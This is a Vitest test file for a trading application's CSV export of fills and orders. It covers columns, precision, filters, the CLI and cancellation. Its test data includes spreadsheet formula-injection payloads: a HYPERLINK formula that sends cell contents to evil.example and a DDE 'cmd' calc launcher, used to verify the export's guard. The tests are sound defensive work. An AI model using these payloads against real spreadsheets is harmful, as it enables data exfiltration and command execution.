/** export fills/orders: columns, quoting, the injection guard, filters, cancel, and the CLI. */
import { existsSync, readdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { exportCommand } from '../../src/main/cli/export'
import { rowWriter, type Column } from '../../src/main/export/columns'
import { unguardText } from '../../src/main/export/csv-text'
import { FILL_COLUMNS } from '../../src/main/export/fill-columns'
import { EXPORT_KINDS } from '../../src/main/export/kinds'
import { localTimeFormatter } from '../../src/main/export/local-time'
import { writeCsvFile } from '../../src/main/export/write-csv'
import { useTempDirs } from '../support/temp-dir'
import { addFills, addPaperAccount, fill, readCsv, readsAsFormula, run, withDb } from './helpers'

const tempDir = useTempDirs()

const iterable = <T>(it: Iterator<T>): Iterable<T> => ({ [Symbol.iterator]: () => it })

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?q="&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  "'=already quoted",
  'line\nbreak, "quoted"',
  'plain',
]

function seeded(): string {
  const dir = tempDir()
  withDb(dir, (db) => {
    addPaperAccount(db, 'acc', 'Main paper')
    addPaperAccount(db, 'other', '=evil()')
    addFills(db, [
      fill({ tradeId: '1', time: Date.UTC(2024, 2, 1, 12, 0, 0, 123) }),
      fill({
        tradeId: '2',
        side: 'sell',
        amount: '0.00000001',
        price: '123456789.123456789',
        cost: '1.23456789123456789',
        fee: { cost: '0.0000000001', currency: 'BTC' },
        time: Date.UTC(2024, 2, 2),
      }),
      ...HOSTILE.map((h, i) =>
        fill({
          tradeId: h,
          symbol: `${h}/USDT`,
          clientOrderId: h,
          exchangeOrderId: h,
          time: Date.UTC(2024, 2, 3, i),
        }),
      ),
      fill({ accountId: 'other', tradeId: '3', time: Date.UTC(2024, 3, 1) }),
    ])
  })
  return dir
}

describe('export fills', () => {
  it('writes the default columns with full-precision decimals and ISO UTC times', async () => {
    const dir = seeded()
    const out = join(dir, 'fills.csv')
    const res = await run(exportCommand, ['fills', '--data-dir', dir, '--out', out, '--account', 'acc'])
    expect(res.err).toBe('')
    expect(res.code).toBe(0)
    const [header, ...rows] = readCsv(out)
    expect(header).toEqual(EXPORT_KINDS.fills.columns.filter((c) => c.default).map((c) => c.name))
    expect(rows).toHaveLength(2 + HOSTILE.length)
    expect(rows[0]).toEqual([
      '2024-03-01T12:00:00.123Z',
      'Main paper',
      'BTC/USDT',
      'buy',
      '0.001',
      '65000.12',
      '65.00012',
      '0.065',
      'USDT',
      'taker',
      '1',
      'o-1',
      '',
    ])
    expect(rows[1]!.slice(4, 9)).toEqual([
      '0.00000001',
      '123456789.123456789',
      '1.23456789123456789',
      '0.0000000001',
      'BTC',
    ])
    const text = readFileSync(out, 'utf8')
    expect(text.charCodeAt(0)).not.toBe(0xfeff)
    expect(text.endsWith('\r\n')).toBe(true)
  })

  it('leaves no cell a spreadsheet would read as a formula, and the guard undoes exactly', async () => {
    const dir = seeded()
    const out = join(dir, 'fills.csv')
    const columns = 'time,account,symbol,trade_id,order_id,client_order_id,amount,base'
    expect(
      (await run(exportCommand, ['fills', '--data-dir', dir, '--out', out, '--columns', columns])).code,
    ).toBe(0)
    const records = readCsv(out)
    const formulas = records.flat().filter(readsAsFormula)
    expect(formulas).toEqual([])
    const tradeIds = records.slice(1).map((r) => unguardText(r[3]!))
    for (const h of HOSTILE) expect(tradeIds).toContain(h)
    expect(records.slice(1).map((r) => unguardText(r[1]!))).toContain('=evil()')
  })

  it('keeps negative numbers numeric: only text cells are guarded', () => {
    const columns: Column[] = [
      { name: 'pnl', kind: 'decimal', default: true, description: '', sql: 't.pnl' },
      { name: 'note', kind: 'text', default: true, description: '', sql: 't.note' },
    ]
    const w = rowWriter('test', columns, undefined)
    expect(w.exactSelects).toEqual(['t.pnl', 't.note'])
    expect(w.exactLine(['-12.5', '-12.5'])).toBe("-12.5,'-12.5")
    // A decimal column holding something that is not decimal text is written as guarded text.
    expect(w.exactLine(['=1+1', 'ok'])).toBe("'=1+1,ok")
    // The fast path reads both as one joined text and leaves every row it would change to exactLine.
    expect(w.selects).toEqual([`ifnull(t.pnl, '') || ',' || ifnull(t.note, '')`])
    expect(w.line(['-12.5,ok'])).toBe('-12.5,ok')
    expect(w.line(['-12.5,-12.5'])).toBeUndefined()
    expect(w.line(['=1+1,ok'])).toBeUndefined()
  })

  it('writes every row as the per-cell rules do, whether the fast path or the exact one writes it', () => {
    const dir = seeded()
    const all = EXPORT_KINDS.fills.columns.map((c) => c.name)
    const local = localTimeFormatter('Europe/Berlin')
    withDb(dir, (db) => {
      const w = rowWriter('fills', FILL_COLUMNS, all, local)
      const from =
        'FROM trading_fills t JOIN trading_accounts a ON a.id = t.account_id ORDER BY t.account_id, t.time, t.rowid'
      const exact = db
        .prepare(`SELECT ${w.exactSelects.join(', ')} ${from}`)
        .raw(true)
        .all() as unknown[][]
      const fast = db
        .prepare(`SELECT ${w.selects.join(', ')} ${from}`)
        .raw(true)
        .all() as unknown[][]
      // Both paths are taken: plain rows by the joined text, hostile ones cell by cell.
      const fastOnes = fast.map((r) => w.line(r)).filter((l) => l !== undefined)
      expect(fastOnes.length).toBeGreaterThan(1)
      expect(fastOnes.length).toBeLessThan(exact.length)
      const { lines } = EXPORT_KINDS.fills.open(db, {}, all, local)
      expect([...iterable(lines)].flat()).toEqual(exact.map((r) => w.exactLine(r)))
    })
  })

  it('filters by account, time range (a date alone in --to includes the day) and picks columns', async () => {
    const dir = seeded()
    const out = join(dir, 'f.csv')
    const res = await run(exportCommand, [
      'fills',
      '--data-dir',
      dir,
      '--out',
      out,
      '--from',
      '2024-03-01T12:00:00.124Z',
      '--to',
      '2024-03-02',
      '--columns',
      'trade_id,time_ms,quote',
    ])
    expect(res.code).toBe(0)
    expect(readCsv(out)).toEqual([
      ['trade_id', 'time_ms', 'quote'],
      ['2', String(Date.UTC(2024, 2, 2)), 'USDT'],
    ])
  })

  it('adds a BOM with --excel and local-time columns with --local-time', async () => {
    const dir = seeded()
    const out = join(dir, 'f.csv')
    const args = ['fills', '--data-dir', dir, '--out', out, '--account', 'other', '--excel']
    expect(
      (await run(exportCommand, [...args, '--local-time', 'Europe/Berlin', '--columns', 'time'])).code,
    ).toBe(0)
    expect(readFileSync(out, 'utf8').charCodeAt(0)).toBe(0xfeff)
    expect(readCsv(out)).toEqual([
      ['time', 'time_local'],
      ['2024-04-01T00:00:00.000Z', '2024-04-01T02:00:00.000+02:00'],
    ])
  })

  it.each([
    [
      ['--columns', 'time,bogus'],
      /unknown column "bogus" \(2nd in the list\); fills columns are: time, account/,
    ],
    [['--columns', 'time,time'], /"time" is named twice/],
    [['--from', '03/01/2024'], /--from "03\/01\/2024" is not a date or time/],
    [['--to', 'yesterday'], /--to "yesterday" is not a date or time/],
    [['--from', '2024-03-02', '--to', '2024-03-01'], /--from 2024-03-02 is not before --to 2024-03-01/],
    [['--account', 'nobody'], /--account: no account "nobody"; accounts: Main paper \(acc\)/],
    [['--local-time', 'Mars/Olympus'], /--local-time: "Mars\/Olympus" is not a time zone/],
  ])('refuses %j saying which and where, writing nothing', async (extra, message) => {
    const dir = seeded()
    const out = join(dir, 'f.csv')
    const res = await run(exportCommand, ['fills', '--data-dir', dir, '--out', out, ...extra])
    expect(res.code).toBe(2)
    expect(res.err).toMatch(message)
    expect(existsSync(out)).toBe(false)
  })

  it('exports journal trades too: a header and no rows while the journal is empty', async () => {
    const dir = seeded()
    const res = await run(exportCommand, ['trades', '--data-dir', dir, '--out', join(dir, 't.csv'), '--json'])
    expect(res.code).toBe(0)
    expect(JSON.parse(res.out)).toMatchObject({ kind: 'trades', rows: 0 })
  })
})

describe('export orders', () => {
  it('writes orders in creation order with their default columns', async () => {
    const dir = tempDir()
    withDb(dir, (db) => {
      addPaperAccount(db, 'acc')
      db.prepare(
        `INSERT INTO trading_orders (account_id, client_order_id, exchange_order_id, symbol, side, type, amount, price,
          status, filled, average, origin, created_at, updated_at)
         VALUES ('acc', 'c1', 'e1', 'BTC/USDT', 'buy', 'limit', '0.5', '60000.5', 'filled', '0.5', '60000.5', 'local', 2, 3),
                ('acc', 'c0', NULL, 'ETH/USDT', 'sell', 'market', '1', NULL, 'rejected', '0', NULL, 'local', 1, 1)`,
      ).run()
    })
    const out = join(dir, 'o.csv')
    expect((await run(exportCommand, ['orders', '--data-dir', dir, '--out', out])).code).toBe(0)
    const rows = readCsv(out)
    expect(rows[0]).toEqual(EXPORT_KINDS.orders.columns.filter((c) => c.default).map((c) => c.name))
    expect(rows.slice(1).map((r) => [r[2], r[5], r[6], r[8], r[11]])).toEqual([
      ['ETH/USDT', 'rejected', '1', '', 'c0'],
      ['BTC/USDT', 'filled', '0.5', '60000.5', 'c1'],
    ])
  })
})

describe('writeCsvFile', () => {
  /** Lines `0` to `n - 1`, in batches of 100 as a row source gives them. */
  function* numbered(n: number, onRow?: (i: number) => void): Generator<string[]> {
    for (let i = 0; i < n; i += 100) {
      const batch: string[] = []
      for (let k = i; k < Math.min(n, i + 100); k++) {
        onRow?.(k)
        batch.push(String(k))
      }
      yield batch
    }
  }
  const leftovers = (dir: string): string[] => readdirSync(dir).filter((f) => f.includes('.partial'))

  it('writes nothing under the chosen name when cancelled, and removes its temporary file', async () => {
    const dir = tempDir()
    const file = join(dir, 'big.csv')
    const abort = new AbortController()
    const lines = numbered(100_000, (i) => i === 5000 && abort.abort(new Error('cancelled')))
    await expect(
      writeCsvFile({ file, headers: ['n'], lines, total: 100_000, signal: abort.signal }),
    ).rejects.toThrow('cancelled')
    expect(existsSync(file)).toBe(false)
    expect(leftovers(dir)).toEqual([])
  })

  it('leaves an existing file untouched when the export fails part way', async () => {
    const dir = tempDir()
    const file = join(dir, 'fills.csv')
    writeFileSync(file, 'the previous export\r\n')
    const lines = numbered(100_000, (i) => {
      if (i === 7000) throw new Error('disk on fire')
    })
    await expect(writeCsvFile({ file, headers: ['n'], lines, total: 100_000 })).rejects.toThrow(
      'disk on fire',
    )
    expect(readFileSync(file, 'utf8')).toBe('the previous export\r\n')
    expect(leftovers(dir)).toEqual([])
  })

  it('reports progress and ends with the full count', async () => {
    const dir = tempDir()
    const seen: number[] = []
    const res = await writeCsvFile({
      file: join(dir, 'n.csv'),
      headers: ['n'],
      lines: numbered(10_000),
      total: 10_000,
      onProgress: (p) => seen.push(p.done),
    })
    expect(res.rows).toBe(10_000)
    expect(seen.at(-1)).toBe(10_000)
    expect(readCsv(join(dir, 'n.csv'))).toHaveLength(10_001)
  })

  it('refuses a folder that does not exist', async () => {
    const dir = tempDir()
    await expect(
      writeCsvFile({ file: join(dir, 'no', 'x.csv'), headers: ['n'], lines: numbered(1), total: 1 }),
    ).rejects.toThrow(/does not exist/)
  })
})
